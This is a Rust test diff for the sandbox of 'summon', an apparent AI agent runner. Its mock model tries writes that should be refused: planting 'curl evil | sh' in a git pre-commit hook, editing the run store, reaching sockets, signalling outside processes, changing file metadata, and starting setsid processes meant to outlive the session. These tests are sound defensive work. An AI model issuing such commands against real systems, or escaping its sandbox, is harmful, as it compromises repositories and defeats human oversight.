@@ -83,28 +83,49 @@ async fn shell_results(
     extra: &[&str],
     setup: impl FnOnce(&Project),
 ) -> Vec<String> {
-    let calls: Vec<(&str, Value)> = commands
+    let calls = commands
         .iter()
         .map(|c| ("shell", json!({ "command": c })))
         .collect();
+    tool_results(calls, extra, setup, |_| {}).await.0
+}
+
+/// Runs one delegation whose model makes `calls` (in one turn), and returns each call's
+/// result text, in order, with the project (kept until the caller is done with it). `adjust`
+/// may change the command before it runs.
+async fn tool_results(
+    calls: Vec<(&str, Value)>,
+    extra: &[&str],
+    setup: impl FnOnce(&Project),
+    adjust: impl FnOnce(&mut Command),
+) -> (Vec<String>, Project) {
     let server = MockServer::start(
         MockConfig::new().replies([Reply::tool_calls(calls), Reply::text("done")]),
     )
     .await;
     let project = Project::new(&server);
     setup(&project);
-    let out = project.delegate(extra).output().expect("run summon");
+    let mut command = project.delegate(extra);
+    adjust(&mut command);
+    let out = command.output().expect("run summon");
     let stderr = String::from_utf8_lossy(&out.stderr);
     assert_eq!(out.status.code(), Some(0), "{stderr}");
     let requests = server.requests();
     assert_eq!(requests.len(), 2, "{stderr}");
-    requests[1].body["messages"]
+    let results = requests[1].body["messages"]
         .as_array()
         .expect("messages")
         .iter()
         .filter(|m| m["role"] == "tool")
         .map(|m| m["content"].as_str().unwrap_or("").to_owned())
-        .collect()
+        .collect();
+    (results, project)
+}
+
+/// Whether a command's output has the error of a write the sandbox refused: Landlock's, or
+/// that of the read-only mounts of the command's namespace.
+fn refused(result: &str) -> bool {
+    result.contains("Permission denied") || result.contains("Read-only file system")
 }
 
 fn unique(name: &str) -> String {
@@ -137,7 +158,7 @@ async fn workspace_write_allows_the_working_directory_only() {
     for (i, what) in [(1, "$HOME"), (2, "/tmp"), (3, ".."), (4, "a symlink")] {
         let result = &results[i];
         assert!(
-            result.starts_with("exit code: 1") && result.contains("Permission denied"),
+            result.starts_with("exit code: 1") && refused(result),
             "writing via {what} was not refused: {result}"
         );
         assert!(
@@ -173,7 +194,7 @@ async fn read_only_refuses_writes_even_in_the_working_directory() {
         |_| {},
     )
     .await;
-    assert!(results[0].contains("Permission denied"), "{results:?}");
+    assert!(refused(&results[0]), "{results:?}");
     assert!(
         results[0].contains("under the `read-only` policy (writes nowhere"),
         "{results:?}"
@@ -308,9 +329,16 @@ fn wait_for_pgid(file: &Path) -> u32 {
     }
 }
 
+/// Prints the shell's process group as the test sees it: `$$` is the shell's number in the
+/// command's own PID namespace, while `/proc` is the host's.
+const OWN_PGID: &str = "read -r _ _ _ _ pgid _ < /proc/self/stat && echo $pgid";
+
 /// A command that records its group, leaves a background sleep, and (with `then`) goes on.
 fn lingering(then: &str) -> String {
-    format!("sleep 30 & echo $$ > pgid.tmp && mv pgid.tmp pgid; {then}")
+    format!(
+        "sleep 30 & {} > pgid.tmp && mv pgid.tmp pgid; {then}",
+        OWN_PGID
+    )
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -469,6 +497,8 @@ fn doctor_says_whether_commands_are_sandboxed() {
     );
     require_landlock();
     assert_eq!(sandbox["sandboxed"], true, "{sandbox}");
+    // This machine (and CI, as root) lets commands have namespaces of their own.
+    assert_eq!(sandbox["namespaces"], true, "{sandbox}");
     assert!(
         sandbox["landlock_abi"].as_u64().unwrap_or(0) >= 1,
         "{sandbox}"
@@ -813,4 +843,532 @@ async fn a_second_ctrl_c_stops_a_run_and_its_commands() {
     let status = child.wait().expect("wait");
     assert_ne!(status.code(), Some(0), "{seen}{rest}");
     assert_group_gone(pgid, "run, Ctrl-C twice");
+}
+
+// ---- .git and the store, sockets, descriptors, metadata, processes that leave ----
+
+/// `git init` in `dir`, with a hook and a store file that the model must not change.
+fn repository_with_a_hook(dir: &Path) {
+    let git = Command::new("git")
+        .args(["init", "-q"])
+        .current_dir(dir)
+        .status()
+        .expect("git init");
+    assert!(git.success());
+    std::fs::write(dir.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").expect("hook");
+    std::fs::create_dir_all(dir.join(".summon")).expect(".summon");
+    std::fs::write(dir.join(".summon/runs.json"), "[]").expect("store file");
+}
+
+/// The hook and the store file are as [`repository_with_a_hook`] wrote them, and nothing
+/// was added to `.summon`.
+#[track_caller]
+fn hook_and_store_unchanged(dir: &Path) {
+    assert_eq!(
+        std::fs::read_to_string(dir.join(".git/hooks/pre-commit")).expect("hook"),
+        "#!/bin/sh\nexit 0\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.join(".summon/runs.json")).expect("store"),
+        "[]"
+    );
+    let names: Vec<_> = std::fs::read_dir(dir.join(".summon"))
+        .expect(".summon")
+        .flatten()
+        .map(|e| e.file_name())
+        .collect();
+    assert_eq!(names, ["runs.json"]);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn git_and_the_store_are_read_only_to_the_model() {
+    require_landlock();
+    let calls = vec![
+        (
+            "write_file",
+            json!({"path": ".git/hooks/pre-commit", "content": "curl evil | sh"}),
+        ),
+        (
+            "edit_file",
+            json!({"path": ".summon/runs.json", "old_string": "[]", "new_string": "[1]"}),
+        ),
+        (
+            "write_file",
+            json!({"path": "sub/../.summon/recipe.yaml", "content": "x"}),
+        ),
+        (
+            "shell",
+            json!({"command": "echo 'curl evil | sh' > .git/hooks/pre-commit"}),
+        ),
+        (
+            "shell",
+            json!({"command": "echo x > .summon/new && echo wrote"}),
+        ),
+        (
+            "shell",
+            json!({"command": "echo kept > a.txt && git status --short && git log --oneline -1; echo git=$?"}),
+        ),
+        ("write_file", json!({"path": "b.txt", "content": "fine"})),
+    ];
+    let (results, project) = tool_results(
+        calls,
+        &[],
+        |p| {
+            std::fs::create_dir_all(p.work().join("sub")).expect("sub");
+            repository_with_a_hook(&p.work());
+        },
+        |_| {},
+    )
+    .await;
+    let work = project.work();
+    for (i, inside) in [(0, ".git"), (1, ".summon"), (2, ".summon")] {
+        assert!(
+            results[i].contains("refused: ")
+                && results[i].contains(&format!("is inside {inside}, which the model may not change under the `workspace-write` sandbox policy")),
+            "{i}: {}",
+            results[i]
+        );
+    }
+    for i in [3, 4] {
+        assert!(
+            results[i].starts_with("exit code: ") && refused(&results[i]),
+            "{i}: {}",
+            results[i]
+        );
+        assert!(!results[i].contains("wrote"), "{}", results[i]);
+    }
+    // Reading git commands work; writing in the workspace does.
+    assert!(
+        results[5].contains("?? a.txt") && results[5].contains("git=128"),
+        "{}",
+        results[5]
+    );
+    assert_eq!(results[6], "wrote 4 bytes to b.txt");
+    hook_and_store_unchanged(&work);
+    assert_eq!(
+        std::fs::read_to_string(work.join("a.txt")).expect("a"),
+        "kept\n"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn read_only_refuses_the_file_tools_and_off_allows_git() {
+    require_landlock();
+    let calls = || {
+        vec![
+            ("write_file", json!({"path": "new.txt", "content": "x"})),
+            (
+                "write_file",
+                json!({"path": ".git/hooks/pre-commit", "content": "changed"}),
+            ),
+        ]
+    };
+    let (results, project) = tool_results(
+        calls(),
+        &["--sandbox", "read-only"],
+        |p| repository_with_a_hook(&p.work()),
+        |_| {},
+    )
+    .await;
+    for result in &results {
+        assert!(
+            result.contains(
+                "write_file refused: this task runs under the `read-only` sandbox policy, which \
+                 lets the model write nowhere; nothing was written"
+            ),
+            "{result}"
+        );
+    }
+    assert!(!project.work().join("new.txt").exists());
+    hook_and_store_unchanged(&project.work());
+
+    let (results, project) = tool_results(
+        calls(),
+        &["--sandbox", "off"],
+        |p| repository_with_a_hook(&p.work()),
+        |_| {},
+    )
+    .await;
+    assert_eq!(results[1], "wrote 7 bytes to .git/hooks/pre-commit");
+    assert_eq!(
+        std::fs::read_to_string(project.work().join(".git/hooks/pre-commit")).expect("hook"),
+        "changed"
+    );
+}
+
+/// The Landlock ABI `summon doctor` finds on this kernel (0 without Landlock).
+fn landlock_abi() -> u64 {
+    let doctor = Test::new().args(["doctor", "--offline", "--json"]).output();
+    doctor.json()["sandbox"]["landlock_abi"]
+        .as_u64()
+        .unwrap_or(0)
+}
+
+/// A Python one-liner connecting to the UNIX socket `address` (`@name` for an abstract one).
+fn connect_unix(address: &str) -> String {
+    let address = match address.strip_prefix('@') {
+        Some(name) => format!("'\\\\0{name}'"),
+        None => format!("'{address}'"),
+    };
+    format!(
+        "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect({address}); \
+         print('unix-ok')\""
+    )
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn unix_sockets_need_the_network_and_abstract_ones_stay_outside() {
+    use std::os::linux::net::SocketAddrExt;
+    require_landlock();
+    let dir = tempfile::tempdir().expect("dir");
+    let path = dir.path().join("daemon.sock");
+    let _named = std::os::unix::net::UnixListener::bind(&path).expect("listen");
+    let name = unique("summon-abstract");
+    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("name");
+    let _abstract = std::os::unix::net::UnixListener::bind_addr(&addr).expect("listen");
+    let named = connect_unix(path.to_str().expect("utf-8"));
+    let abstract_one = connect_unix(&format!("@{name}"));
+
+    let denied = shell_results(&[named.clone(), abstract_one.clone()], &[], |_| {}).await;
+    for result in &denied {
+        assert!(
+            result.starts_with("exit code: 1") && result.contains("PermissionError"),
+            "{result}"
+        );
+    }
+    let granted = shell_results(&[named, abstract_one], &["--network"], |_| {}).await;
+    assert_eq!(granted[0], "exit code: 0\n[stdout]\nunix-ok\n");
+    if landlock_abi() < 6 {
+        eprintln!("not checked: abstract sockets with --network need Landlock ABI 6 (Linux 6.12)");
+        return;
+    }
+    // Landlock ABI 6 scopes abstract sockets to the sandbox, network or not.
+    assert!(
+        granted[1].starts_with("exit code: 1") && granted[1].contains("PermissionError"),
+        "{}",
+        granted[1]
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_command_cannot_signal_a_process_outside() {
+    require_landlock();
+    let mut sibling = Command::new("sleep").arg("60").spawn().expect("sleep");
+    let pid = sibling.id();
+    let results = shell_results(
+        &[
+            format!("kill -9 {pid}; echo rc=$?"),
+            "kill -0 $PPID; echo parent=$?".to_owned(),
+        ],
+        &[],
+        |_| {},
+    )
+    .await;
+    assert!(results[0].contains("rc=1"), "{}", results[0]);
+    assert!(results[1].contains("parent=0"), "{}", results[1]);
+    assert!(
+        sibling.try_wait().expect("try_wait").is_none(),
+        "the command killed a process outside its sandbox"
+    );
+    let _ = sibling.kill();
+    let _ = sibling.wait();
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn descriptors_summon_inherits_do_not_reach_the_command() {
+    require_landlock();
+    let outside = tempfile::tempdir().expect("outside");
+    let target = outside.path().join("leak.txt");
+    std::fs::write(&target, "").expect("leak file");
+    let target_text = target.to_str().expect("utf-8").to_owned();
+    let (results, _project) = tool_results(
+        vec![(
+            "shell",
+            json!({"command": "echo leaked >&7; echo rc=$?; ls /proc/self/fd"}),
+        )],
+        &[],
+        |_| {},
+        |command| {
+            // summon started with descriptor 7 open on a file outside the workspace, as a
+            // parent that forgot close-on-exec leaves it.
+            let program = command.get_program().to_owned();
+            let args: Vec<_> = command.get_args().map(|a| a.to_owned()).collect();
+            let mut wrapped = Command::new("sh");
+            wrapped
+                .arg("-c")
+                .arg(format!("exec 7>>'{target_text}'; exec \"$0\" \"$@\""))
+                .arg(program)
+                .args(args);
+            let cwd = command.get_current_dir().map(Path::to_owned);
+            let envs: Vec<_> = command
+                .get_envs()
+                .map(|(k, v)| (k.to_owned(), v.map(|v| v.to_owned())))
+                .collect();
+            if let Some(cwd) = cwd {
+                wrapped.current_dir(cwd);
+            }
+            wrapped.env_clear();
+            for (k, v) in envs {
+                if let Some(v) = v {
+                    wrapped.env(k, v);
+                }
+            }
+            wrapped
+                .stdin(Stdio::null())
+                .stdout(Stdio::piped())
+                .stderr(Stdio::piped());
+            *command = wrapped;
+        },
+    )
+    .await;
+    assert!(
+        results[0].contains("Bad file descriptor") && results[0].contains("rc=2"),
+        "{}",
+        results[0]
+    );
+    assert_eq!(std::fs::read_to_string(&target).expect("leak file"), "");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn metadata_outside_the_workspace_is_left_alone() {
+    use std::os::unix::fs::{MetadataExt, PermissionsExt};
+    require_landlock();
+    let outside = tempfile::tempdir().expect("outside");
+    let file = outside.path().join("owned.txt");
+    std::fs::write(&file, "x").expect("file");
+    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).expect("mode");
+    let before = std::fs::metadata(&file).expect("metadata");
+    let shown = file.display();
+    let commands = [
+        format!("chmod 777 {shown}"),
+        format!("touch -d 2001-01-01 {shown}"),
+        format!("chown 1:1 {shown}"),
+        format!("python3 -c \"import os; os.setxattr('{shown}', 'user.x', b'1')\""),
+        "echo x > mine && chmod 700 mine && touch -d 2001-01-01 mine && echo in-workspace-ok"
+            .to_owned(),
+    ];
+    for extra in [&[][..], &["--sandbox", "read-only"][..]] {
+        let results = shell_results(&commands, extra, |_| {}).await;
+        for result in &results[..4] {
+            assert!(
+                result.starts_with("exit code: 1")
+                    && (refused(result) || result.contains("Operation not permitted")),
+                "{extra:?}: {result}"
+            );
+        }
+        if extra.is_empty() {
+            assert!(results[4].contains("in-workspace-ok"), "{}", results[4]);
+        }
+        let after = std::fs::metadata(&file).expect("metadata");
+        assert_eq!(after.mode(), before.mode());
+        assert_eq!(after.mtime(), before.mtime());
+        assert_eq!((after.uid(), after.gid()), (before.uid(), before.gid()));
+    }
+}
+
+/// A command that leaves a process of its own session appending to `f` every 0.1 s, after
+/// writing that process's id into `pid`.
+const ESCAPES: &str = "setsid sh -c 'read -r pid _ < /proc/self/stat && echo $pid > pid.tmp && \
+                       mv pid.tmp pid; while :; do echo x >> f; sleep 0.1; done' \
+                       > /dev/null 2>&1 < /dev/null & while [ ! -s pid ]; do sleep 0.05; done; echo started";
+
+/// Runs [`ESCAPES`] under `extra` and checks that once summon has exited, the process is
+/// gone and `f` no longer grows.
+async fn nothing_outlives(extra: &[&str], adjust: impl FnOnce(&mut Command)) {
+    let (results, project) = tool_results(
+        vec![("shell", json!({"command": ESCAPES}))],
+        extra,
+        |_| {},
+        adjust,
+    )
+    .await;
+    assert!(results[0].contains("started"), "{}", results[0]);
+    let work = project.work();
+    let pid: u32 = std::fs::read_to_string(work.join("pid"))
+        .expect("pid file")
+        .trim()
+        .parse()
+        .expect("pid");
+    let still = crate::support::mcp::alive(pid);
+    if still {
+        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
+    }
+    assert!(
+        !still,
+        "{extra:?}: process {pid}, started with setsid, outlived summon"
+    );
+    let size = std::fs::metadata(work.join("f")).map_or(0, |m| m.len());
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(
+        std::fs::metadata(work.join("f")).map_or(0, |m| m.len()),
+        size
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_process_a_command_starts_outlives_it() {
+    require_landlock();
+    nothing_outlives(&[], |_| {}).await;
+    // Under read-only nothing can be written: the process is found by its command line.
+    let nanos = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map_or(0, |d| d.subsec_nanos());
+    let marker = format!("9999.{nanos}");
+    let results = shell_results(
+        &[format!(
+            "setsid sleep {marker} > /dev/null 2>&1 < /dev/null & echo started"
+        )],
+        &["--sandbox", "read-only"],
+        |_| {},
+    )
+    .await;
+    assert!(results[0].contains("started"), "{}", results[0]);
+    let left: Vec<u32> = std::fs::read_dir("/proc")
+        .expect("/proc")
+        .flatten()
+        .filter_map(|e| e.file_name().to_str()?.parse().ok())
+        .filter(|pid| {
+            std::fs::read(format!("/proc/{pid}/cmdline"))
+                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(&marker))
+        })
+        .filter(|pid| crate::support::mcp::alive(*pid))
+        .collect();
+    for pid in &left {
+        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
+    }
+    assert!(left.is_empty(), "read-only: {left:?} outlived summon");
+    if nix_is_root() {
+        nothing_outlives(&["--sandbox", "off"], |_| {}).await;
+    } else {
+        eprintln!("skipped `--sandbox off`: only root gets a PID namespace without the sandbox");
+    }
+}
+
+fn nix_is_root() -> bool {
+    std::fs::read_to_string("/proc/self/status").is_ok_and(|status| {
+        status
+            .lines()
+            .find(|l| l.starts_with("Uid:"))
+            .and_then(|l| l.split_whitespace().nth(2))
+            == Some("0")
+    })
+}
+
+/// Gives `dir` and everything in it to `uid`.
+fn give(dir: &Path, uid: u32) {
+    std::os::unix::fs::lchown(dir, Some(uid), Some(uid)).expect("chown");
+    if dir.is_dir() && !dir.is_symlink() {
+        for entry in std::fs::read_dir(dir).expect("read_dir").flatten() {
+            give(&entry.path(), uid);
+        }
+    }
+}
+
+/// As an unprivileged user (`nobody`), which needs a user namespace for the rest: `.git` and
+/// the store stay read-only, writes outside are refused, and nothing outlives the command.
+#[tokio::test(flavor = "multi_thread")]
+async fn an_unprivileged_user_gets_the_same_sandbox() {
+    use std::os::unix::process::CommandExt;
+    require_landlock();
+    if !nix_is_root() {
+        eprintln!("skipped: only root can run summon as another user here");
+        return;
+    }
+    const NOBODY: u32 = 65534;
+    let outside = tempfile::tempdir().expect("outside");
+    give(outside.path(), NOBODY);
+    let calls = vec![
+        (
+            "shell",
+            json!({"command": "echo x > .git/hooks/pre-commit; echo y > .summon/runs.json; id -u"}),
+        ),
+        (
+            "shell",
+            json!({"command": format!("touch {}/out; echo kept > in.txt && cat in.txt", outside.path().display())}),
+        ),
+        ("shell", json!({"command": ESCAPES})),
+    ];
+    let (results, project) = tool_results(
+        calls,
+        &[],
+        |p| {
+            repository_with_a_hook(&p.work());
+            give(p.test.path(), NOBODY);
+            give(p._home.path(), NOBODY);
+        },
+        |command| {
+            command.uid(NOBODY).gid(NOBODY);
+        },
+    )
+    .await;
+    let work = project.work();
+    assert!(
+        refused(&results[0]) && results[0].contains("65534"),
+        "{}",
+        results[0]
+    );
+    hook_and_store_unchanged(&work);
+    assert!(
+        refused(&results[1]) && results[1].contains("kept"),
+        "{}",
+        results[1]
+    );
+    assert!(!outside.path().join("out").exists());
+    let pid: u32 = std::fs::read_to_string(work.join("pid"))
+        .expect("pid file")
+        .trim()
+        .parse()
+        .expect("pid");
+    let still = crate::support::mcp::alive(pid);
+    if still {
+        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
+    }
+    assert!(
+        !still,
+        "process {pid}, started with setsid, outlived summon"
+    );
+}
+
+/// summon killed with SIGKILL, which it cannot handle, while a command runs: the command's
+/// helper sees summon go and ends the command's PID namespace, setsid'd processes and all.
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_outlives_a_summon_killed_outright() {
+    require_landlock();
+    let server = MockServer::start(MockConfig::new().replies([
+        Reply::tool_call("shell", json!({"command": format!("{ESCAPES}; sleep 30")})),
+        Reply::text("done"),
+    ]))
+    .await;
+    let project = Project::new(&server);
+    let mut child = project.delegate(&[]).spawn().expect("spawn");
+    let pid_file = project.work().join("pid");
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let pid: u32 = loop {
+        if let Some(pid) = std::fs::read_to_string(&pid_file)
+            .ok()
+            .and_then(|text| text.trim().parse().ok())
+        {
+            break pid;
+        }
+        if Instant::now() >= deadline {
+            let _ = child.kill();
+            let out = child.wait_with_output().expect("wait");
+            panic!(
+                "the command never started: {} {:?}",
+                String::from_utf8_lossy(&out.stderr),
+                server.requests().last().map(|r| r.body["messages"].clone()),
+            );
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    child.kill().expect("SIGKILL summon");
+    child.wait().expect("wait for summon");
+    let still = crate::support::mcp::still_alive(pid);
+    if still {
+        let _ = Command::new("kill").args(["-9", &pid.to_string()]).status();
+    }
+    assert!(
+        !still,
+        "process {pid}, started with setsid, outlived a killed summon"
+    );
 }
